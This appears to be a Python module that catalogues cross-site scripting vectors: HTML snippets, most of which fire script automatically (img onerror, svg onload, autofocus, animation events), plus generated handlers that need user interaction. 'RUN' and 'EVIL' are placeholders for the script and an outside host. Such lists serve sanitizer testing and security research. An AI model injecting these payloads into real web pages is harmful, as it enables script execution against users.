"""Event handlers, each with an element on which a browser fires it."""

FIRES_ALONE = """
<img src=x: onerror=RUN>
<image src=x: onerror=RUN>
<svg onload=RUN>
<svg/onload=RUN>
<body onload=RUN>
<body onpageshow=RUN>
<body onfocus=RUN>
<body onhashchange=RUN>
<body onmessage=RUN>
<body onoffline=RUN>
<body onpopstate=RUN>
<body onresize=RUN>
<body onbeforeunload=RUN>
<body onunhandledrejection=RUN><script>fetch('x:')</script>
<frameset onload=RUN>
<iframe onload=RUN></iframe>
<iframe srcdoc="<img src=x: onerror=parent.RUN>"></iframe>
<object data=x: onerror=RUN></object>
<object onload=RUN data=data:text/html,x></object>
<embed src=data:text/html,x onload=RUN>
<video src=x: onerror=RUN></video>
<video><source onerror=RUN src=x:></video>
<audio src=x: onerror=RUN></audio>
<audio src onloadstart=RUN></audio>
<video onloadstart=RUN src=x:></video>
<video autoplay onplay=RUN src=data:video/mp4,x></video>
<video poster=x: onsuspend=RUN src=x:></video>
<input type=image src=x: onerror=RUN>
<link rel=stylesheet href=data:text/css,x onload=RUN>
<link rel=stylesheet href=x: onerror=RUN>
<style onload=RUN></style>
<style onerror=RUN>@import 'x:'</style>
<script src=x: onerror=RUN></script>
<script src=data:, onload=RUN></script>
<details open ontoggle=RUN>d</details>
<details ontoggle=RUN open=open><summary>s</summary></details>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN></select>
<textarea autofocus onfocus=RUN></textarea>
<button autofocus onfocus=RUN>b</button>
<a href=# autofocus onfocus=RUN>a</a>
<x-y tabindex=1 autofocus onfocus=RUN>x</x-y>
<x-y contenteditable autofocus onfocusin=RUN>x</x-y>
<input autofocus onblur=RUN><input autofocus>
<marquee onstart=RUN>m</marquee>
<marquee loop=1 width=0 onfinish=RUN>m</marquee>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><animate onend=RUN attributeName=x dur=1ms></svg>
<svg><animate onrepeat=RUN attributeName=x dur=1ms repeatCount=2></svg>
<svg><set onbegin=RUN attributeName=x to=1></svg>
<svg><animateTransform onbegin=RUN attributeName=transform dur=1s></svg>
<svg><animateMotion onbegin=RUN dur=1s></svg>
<svg><image href=x: onerror=RUN></svg>
<svg><g onload=RUN></g></svg>
<svg><use onload=RUN></use></svg>
<svg><foreignObject><img src=x: onerror=RUN></foreignObject></svg>
<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=RUN>b</b>
<style>@keyframes k{}</style><b style="animation:k 1ms" onanimationend=RUN>b</b>
<style>@keyframes k{}</style><b style="animation:k 1ms 2" onanimationiteration=RUN>b</b>
<b id=t style="transition:color 1ms" ontransitionend=RUN>b</b>
<b style="transition:all 1s" ontransitionrun=RUN>b</b>
<b onsecuritypolicyviolation=RUN><img src=//EVIL></b>
<b style=content-visibility:auto oncontentvisibilityautostatechange=RUN>b</b>
<div style=overflow:auto;height:9px autofocus tabindex=0 onscroll=RUN>b</div>
<div style=overflow:auto onscrollend=RUN>b</div>
<slot onslotchange=RUN></slot>
<button popovertarget=p onbeforetoggle=RUN>b</button><p popover id=p onbeforetoggle=RUN>
<meter onmouseover=0 autofocus tabindex=0 onfocusin=RUN>m</meter>
<keygen autofocus onfocus=RUN>
<isindex type=image src=x: onerror=RUN>
<bgsound src=x: onerror=RUN>
<applet onerror=RUN>
<layer src=x: onload=RUN></layer>
<xss onafterscriptexecute=RUN><script>1</script>
<math href=javascript:RUN autofocus onfocus=RUN>m</math>
""".strip().split("\n")

NEEDS_A_HAND = """
click dblclick auxclick contextmenu mousedown mouseup mouseover mouseout mouseenter mouseleave
mousemove wheel mousewheel pointerdown pointerup pointerover pointerenter pointermove
pointerrawupdate gotpointercapture touchstart touchend touchmove keydown keyup keypress input
beforeinput change select selectstart selectionchange submit reset invalid search copy cut paste
beforecopy drag dragstart dragend dragenter dragover dragleave drop fullscreenchange
webkitmouseforcedown cancel close command
""".split()


def handlers() -> list[str]:
    """All of them, `RUN` standing for the script and `EVIL` for another host."""
    by_hand = [
        f"<b tabindex={number} contenteditable on{name}=RUN>{name}</b>"
        for number, name in enumerate(NEEDS_A_HAND, start=1)
    ]
    return [*FIRES_ALONE, *by_hand]
